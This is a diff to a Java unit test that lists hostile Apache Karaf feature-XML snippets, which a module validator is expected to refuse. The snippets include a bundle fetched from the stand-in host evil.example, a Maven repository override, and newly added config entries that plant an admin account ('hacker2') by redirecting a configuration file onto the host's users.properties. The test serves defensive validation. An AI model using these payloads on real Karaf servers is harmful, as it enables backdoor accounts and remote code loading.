@@ -77,7 +77,12 @@ class FeatureDeployerTest {
             "<configfile finalname=\"etc/users.properties\">mvn:be.imio.solutions/courrier/1.0.0/cfg</configfile>",
             "<library>mvn:be.imio.solutions/courrier/1.0.0</library>",
             "<bundle>wrap:http://evil.example/x.jar</bundle>",
-            "<config name=\"org.ops4j.pax.url.mvn\" append=\"true\">org.ops4j.pax.url.mvn.repositories = http://e/</config>"}) {
+            "<config name=\"org.ops4j.pax.url.mvn\" append=\"true\">org.ops4j.pax.url.mvn.repositories = http://e/</config>",
+            // Released by a repository that did not check configuration keys: Karaf would write the
+            // configuration to the host's accounts file.
+            "<config name=\"be.imio.solutions.courrier.fy\">hacker2 = hackpw2,admin\n"
+                    + "felix.fileinstall.filename = file:/opt/karaf/etc/users.properties</config>",
+            "<config name=\"be.imio.solutions.courrier\">home = ${env:HOME}</config>"}) {
             Path xml = verified(hostile);
 
             ModuleArtifacts.Refused refused = assertThrows(ModuleArtifacts.Refused.class,
